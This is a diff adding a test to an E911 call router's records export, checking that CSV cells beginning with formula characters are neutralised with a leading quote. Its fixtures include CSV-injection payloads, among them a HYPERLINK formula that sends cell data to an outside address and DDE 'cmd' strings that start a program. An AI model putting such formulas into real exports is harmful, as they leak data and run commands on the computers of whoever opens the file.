@@ -102,3 +102,38 @@ def test_export_refuses_an_empty_window_and_a_bad_date(records_db: str) -> None:
     garbage = e911_router(records_db, "records", "export", "--from", "yesterday")
     assert garbage.returncode == 2
     assert "expected a date (2026-03-01) or an ISO 8601 time" in garbage.stderr
+
+
+FORMULAS = {
+    "dialed": '=HYPERLINK("http://203.0.113.9/x?"&A1,"911")',
+    "sip_user": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "sip_call_id": "-2+3+cmd|' /C calc'!A0",
+    "trunk_used": "+1+1",
+    "location_id": "\tadr_tab",
+    "call_ref": "'quoted already",
+}
+
+
+def test_export_csv_neutralises_formula_cells_and_keeps_them_readable(tmp_path: Path) -> None:
+    """Caller-controlled cells starting with = + - @ TAB (OWASP CSV injection) get one leading
+    single quote, as does a cell already starting with one; plain numbers such as an E.164
+    callback number stay as they are; the JSON export keeps the raw values (issue 13,
+    finding 12)."""
+    url = f"sqlite:///{tmp_path}/e911.db"
+    store = open_store(url)
+    try:
+        RecordStore(store).append(record(1, **FORMULAS))
+    finally:
+        store.close()
+    result = e911_router(url, "records", "export", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
+    for column, value in FORMULAS.items():
+        assert row[column] == "'" + value, column
+    assert row["callback_number"] == CALLBACK
+    assert row["final_status"] == "200"
+    assert row["seq"] == "1"
+    assert row["trunks_tried"] == "sip:127.0.0.1:5071 200"
+    as_json = e911_router(url, "records", "export", "--format", "json")
+    (raw,) = json.loads(as_json.stdout)["records"]
+    assert {column: raw[column] for column in FORMULAS} == FORMULAS
